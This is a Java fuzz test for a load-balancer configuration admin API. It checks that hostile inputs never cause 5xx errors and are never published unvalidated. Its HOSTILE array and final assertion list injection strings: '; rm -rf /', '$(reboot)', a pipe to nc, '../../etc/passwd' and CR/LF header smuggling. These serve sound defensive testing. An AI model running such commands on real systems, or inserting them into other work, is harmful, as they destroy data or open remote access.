package io.videolb.config.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.videolb.config.client.AdminClient;
import io.videolb.events.DesiredRecords;
import io.videolb.model.FieldText;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.SortedMap;
import org.junit.jupiter.api.Test;

/**
 * Random and hostile bodies on every write endpoint (CR/LF, NUL, shell metacharacters, option
 * dashes, deep nesting, wrong types, huge numbers in every field): never a 5xx, and nothing
 * published unless every value of the new state is a validated typed value.
 */
class FuzzIT {
    static final String[] HOSTILE = {
        "203.0.113.21\r\nflush", "10\nflush", "-F", "--flush", "$(reboot)", "`id`", "; rm -rf /", "| nc 203.0.113.1 1",
        "203.0.113.21\u0000", "\u2028", "0x10", "010", "1e3", "-1", "4294967296", "99999999999999999999", "", " ", "\t10",
        "ops@example.com\r\nBcc: x@example.com", "rr\nadd", "203.0.113.0/0", "203.0.113.1/24", "../../etc/passwd", "%0d%0a", "'\"",
        "\u00e9", "203.0.113.021", "256.1.1.1", "null", "true", "{}", "[]",
    };
    static final String[] FIELDS = {"mark", "client", "scheduler", "servers", "backup", "server", "vip", "clientNetwork", "mailTo",
        "persistenceSeconds", "defaultMark", "defaultScheduler", "weight", "address", "op", "files", "change", "\r\nX-Evil"};

    @Test
    void shouldNeverAnswer5xxNorPublishAnUnvalidatedValue() throws Exception {
        try (ApiFixture fx = new ApiFixture("fuzz")) {
            fx.importExample();
            Random rnd = new Random(20240607L);
            List<String> fiveXX = new ArrayList<>();
            int published = 0;
            int attempts = 0;
            String[] paths = {"/api/v1/clients/203.0.113.21", "/api/v1/clients/203.0.113.0/28", "/api/v1/pools/10", "/api/v1/pools/77",
                "/api/v1/backups/192.0.2.11", "/api/v1/params", "/api/v1/import", "/api/v1/plan"};
            for (int i = 0; i < 1500; i++) {
                String path = paths[rnd.nextInt(paths.length)];
                String body = i % 3 == 0 ? randomBytesText(rnd) : randomJson(rnd, 0);
                String method = path.endsWith("import") || path.endsWith("plan") ? "POST" : "PUT";
                AdminClient.Response r = fx.admin.send(method, path, body, "\"" + fx.store.generation() + "\"");
                attempts++;
                if (r.status() >= 500) fiveXX.add(r.status() + " " + path + " " + body + " -> " + r.body());
                if (r.status() == 200 && !path.endsWith("plan")) published++;
            }
            // hostile values in every path segment, too
            for (String h : HOSTILE) {
                String seg = java.net.URLEncoder.encode(h, java.nio.charset.StandardCharsets.UTF_8).replace("+", "%20");
                for (String p : List.of("/api/v1/clients/", "/api/v1/pools/", "/api/v1/backups/")) {
                    AdminClient.Response r = fx.admin.send("PUT", p + seg, "{\"mark\":10,\"backup\":\"192.0.2.25\",\"scheduler\":\"rr\",\"servers\":[\"192.0.2.11\"]}",
                            "\"" + fx.store.generation() + "\"");
                    attempts++;
                    if (r.status() >= 500) fiveXX.add(r.status() + " " + p + seg + " -> " + r.body());
                    if (r.status() == 200) published++;
                }
                AdminClient.Response x = fx.admin.get("/api/v1/explain?client=" + seg);
                if (x.status() >= 500) fiveXX.add(x.status() + " explain " + seg);
            }
            assertThat(fiveXX).as("5xx answers").isEmpty();
            SortedMap<String, String> records = DesiredRecords.encode(fx.store.current().orElseThrow().state());
            for (Map.Entry<String, String> e : records.entrySet()) {
                FieldText.check(e.getKey());
                assertThat(e.getValue()).doesNotContain("\\r", "\\n", "\\u0000", "$(", "`", ";", "|", "rm -rf");
            }
            System.out.printf("fuzz: %d requests, %d published, 0 answers 5xx%n", attempts, published);
        }
    }

    static String randomBytesText(Random rnd) {
        StringBuilder b = new StringBuilder();
        int n = rnd.nextInt(200);
        for (int i = 0; i < n; i++) b.append((char) rnd.nextInt(0x3000));
        return b.toString();
    }

    static String randomJson(Random rnd, int depth) {
        int kind = rnd.nextInt(depth > 3 ? 4 : 7);
        switch (kind) {
            case 0: return quote(HOSTILE[rnd.nextInt(HOSTILE.length)]);
            case 1: return Long.toString(rnd.nextLong() % 5_000_000_000L);
            case 2: return rnd.nextBoolean() ? "null" : "1.5";
            case 3: return quote(List.of("192.0.2.11", "203.0.113.21", "10", "20", "rr", "wlc", "ops@example.com", "client.set", "pool.set").get(rnd.nextInt(9)));
            case 4: {
                StringBuilder b = new StringBuilder("[");
                for (int i = rnd.nextInt(4); i > 0; i--) b.append(randomJson(rnd, depth + 1)).append(i > 1 ? "," : "");
                return b.append(']').toString();
            }
            default: {
                StringBuilder b = new StringBuilder("{");
                int n = 1 + rnd.nextInt(6);
                for (int i = 0; i < n; i++) {
                    b.append(quote(FIELDS[rnd.nextInt(FIELDS.length)])).append(':').append(randomJson(rnd, depth + 1));
                    if (i < n - 1) b.append(',');
                }
                return b.append('}').toString();
            }
        }
    }

    static String quote(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') b.append('\\').append(c);
            else if (c < 0x20 || c == 0x2028) b.append(String.format("\\u%04x", (int) c));
            else b.append(c);
        }
        return b.append('"').toString();
    }
}
